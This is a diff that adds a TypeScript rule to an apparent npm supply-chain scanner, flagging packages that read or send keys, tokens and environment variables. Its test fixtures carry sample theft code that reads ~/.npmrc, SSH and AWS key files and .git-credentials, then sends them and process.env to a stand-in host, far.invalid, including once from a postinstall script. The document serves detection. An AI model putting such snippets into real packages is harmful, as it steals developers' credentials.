@@ -1,0 +1,202 @@
+/**
+ * Keys are kept in a few well-known places: npm's and the clouds' files in the home folder, variables of the environment,
+ * browsers' and wallets' profiles, the address that gives a cloud machine its role. Worms look into all of them. Reading one
+ * is worth a look; reading and sending, or doing it in an installation script, is theft.
+ */
+import type { Behavior } from '../../src/model/behavior.ts';
+import type { Evidence } from '../../src/model/finding.ts';
+import { findCredentialPlace, isMetadataAddress } from '../../src/model/telling-places.ts';
+import type { Rule } from '../../src/rule.ts';
+import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
+
+export const credentialsRead: Rule = defineRule({
+  id: 'credentials-read',
+  family: 'code',
+  title: 'The package reads keys, tokens or the whole environment',
+  rationale: 'Whoever has them can publish, deploy and pay in your name.',
+  remedy: 'Stay on the old version. If it was installed or loaded anywhere, revoke what was readable there.',
+  level: 'review',
+  incidents: [
+    {
+      what: 'eslint-scope 3.7.2: ~/.npmrc read on installation, and its token sent',
+      when: '2018-07-12',
+      url: 'https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/',
+    },
+    {
+      what: 'Shai-Hulud: tokens of npm, GitHub and the clouds collected from files and the environment',
+      when: '2025-09-15',
+      url: 'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
+    },
+  ],
+  appliesToAdditions: true,
+  needs: ['behaviors'],
+  kinds: {
+    sent: { level: 'block', about: 'They are sent over the network when the package is loaded or installed.' },
+    'when-installed': { level: 'block', about: 'An installation script reads them.' },
+    'own-service': {
+      level: 'notice',
+      about: 'A function that users call sends a token to a host that is named like it.',
+    },
+  },
+  flags: [
+    {
+      title: "npm's file read at load, under a name put together",
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const fs = require('fs');\nconst text = fs.readFileSync(require('os').homedir() + '/.np' + 'mrc', 'utf8');\nexports.found = /_authToken/.test(text);\n`,
+      },
+      expect: [
+        {
+          message: 'fs.readFileSync reads <home>/.npmrc',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
+    {
+      title: 'files of keys gathered in an object and sent, and the environment',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const fs = require('fs');
+const https = require('https');
+const found = {};
+for (const name of ['.ssh/id_rsa', '.aws/credentials']) found[name] = fs.readFileSync(process.env.HOME + '/' + name, 'utf8');
+const request = https.request({ hostname: 'far.invalid', method: 'POST' });
+request.write(JSON.stringify(process.env));
+request.end(JSON.stringify(found));
+`,
+      },
+      expect: [
+        {
+          message: 'fs.readFileSync reads <home>/.ssh/id_rsa',
+          at: { in: 'tarball', path: 'index.js', line: 4 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'sent',
+          message: 'https.request().write sends process.env to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 6 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'sent',
+          message: 'https.request().end sends <home>/.ssh/id_rsa to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 7 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
+    {
+      title: 'a token read by an installation script',
+      before: { 'index.js': '' },
+      after: {
+        'package.json': { scripts: { postinstall: 'node setup.js' } },
+        'index.js': '',
+        'setup.js': `require('fs').readFile('/home/user/.git-credentials', () => {});\n`,
+      },
+      expect: [
+        {
+          kind: 'when-installed',
+          message: 'fs.readFile reads /home/user/.git-credentials',
+          at: { in: 'tarball', path: 'setup.js', line: 1 },
+          via: ['scripts/postinstall', 'setup.js'],
+        },
+      ],
+    },
+    {
+      title: 'tokens sent when a function is called: one to a stranger, one to the service it is named after',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const { SAMPLE_API_KEY } = process.env;
+exports.count = () => fetch(\`https://far.invalid/?\${process.env.NPM_TOKEN}\`);
+exports.ask = () => fetch('https://api.sample.invalid/', { headers: { authorization: SAMPLE_API_KEY } });
+`,
+      },
+      expect: [
+        {
+          message: 'fetch sends NPM_TOKEN to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', 'count()'],
+        },
+        {
+          kind: 'own-service',
+          message: 'fetch sends SAMPLE_API_KEY to api.sample.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 3 },
+          via: ['main', 'index.js', 'ask()'],
+        },
+      ],
+    },
+  ],
+  passes: [
+    {
+      title: 'single switches of the environment, a settings file, and a token for whom the caller names',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `
+const fs = require('fs');
+const path = require('path');
+exports.production = process.env.NODE_ENV === 'production' && !process.env.CI;
+exports.settings = (folder) => fs.readFileSync(path.join(folder, '.editorconfig'), 'utf8');
+exports.ask = (url, body) => fetch(url, { body, headers: { authorization: process.env.SAMPLE_TOKEN } });
+exports.start = (command) => require('child_process').spawn(command, { env: process.env });
+exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: process.env.npm_config_user_agent } });
+`,
+      },
+    },
+  ],
+  check({ behaviors }) {
+    return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
+      if (behavior.tier === 'unreached') return [];
+      if (behavior.kind === 'disclosure') return describeSent(behavior);
+      const seen = describeRead(behavior);
+      if (seen === undefined) return [];
+      return [evidenceOf(behavior, seen, behavior.tier === 'install' ? 'when-installed' : undefined)];
+    });
+  },
+});
+
+type Kind = 'sent' | 'when-installed' | 'own-service';
+
+function describeRead({ kind, api, detail, tier, root }: Behavior): string | undefined {
+  if (detail === undefined) return undefined;
+  if (kind === 'network')
+    return isMetadataAddress(detail) ? `${api} asks ${shorten(detail)} for a machine's keys` : undefined;
+  if (kind !== 'file-read') return undefined;
+  // Tools that read such files when they are asked to are there for that.
+  if ((tier === 'call' || root === 'bin') && isProjectFile(detail)) return undefined;
+  return findCredentialPlace(detail) === undefined ? undefined : `${api} reads ${shorten(detail)}`;
+}
+
+/** `.env` and `.npmrc` of the project, or of a folder that the caller names. */
+function isProjectFile(path: string): boolean {
+  return /(?:^|[\\/])\.(?:env(?:\.[\w-]+)?|npmrc|yarnrc(?:\.yml)?)$/.test(path) && !/^(?:<home>|~|\$HOME)/.test(path);
+}
+
+function describeSent(behavior: Behavior): Evidence<Kind>[] {
+  const { api, carries = [], tier, root } = behavior;
+  const names = carries.filter(({ sort }) => sort === 'credential').map(({ name }) => name);
+  if (names.length === 0) return [];
+  const host = hostOf(behavior);
+  const isEarly = tier === 'install' || tier === 'load';
+  // Whom the caller names is the caller's business.
+  if (host === undefined && !(isEarly && root !== 'bin')) return [];
+  const message = `${api} sends ${shorten(names.join(', '), 120)} to ${host === undefined ? 'a host that is not told' : shorten(host)}`;
+  if (isEarly) return [evidenceOf(behavior, message, 'sent')];
+  const isOwn = host !== undefined && names.every((name) => isNamedAfter(host, name));
+  return [evidenceOf(behavior, message, isOwn ? 'own-service' : undefined)];
+}
+
+function hostOf({ detail }: Behavior): string | undefined {
+  const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?([^/:?#\s]+)/i.exec(detail ?? '')?.[1]?.toLowerCase();
+  return host === undefined || host.includes('…') || /^[$<]/.test(host) ? undefined : host;
+}
+
+/** `SAMPLE_API_KEY` belongs to `api.sample.com`. What opens a registry or a repository belongs to no library's service. */
+function isNamedAfter(host: string, variable: string): boolean {
+  const word = /^[a-z]{3,}(?=_)/i.exec(variable)?.[0].toLowerCase();
+  return (
+    word !== undefined &&
+    !/^(?:npm|github|git|aws|node|auth|access|api|secret)$/.test(word) &&
+    host.split('.').includes(word)
+  );
+}
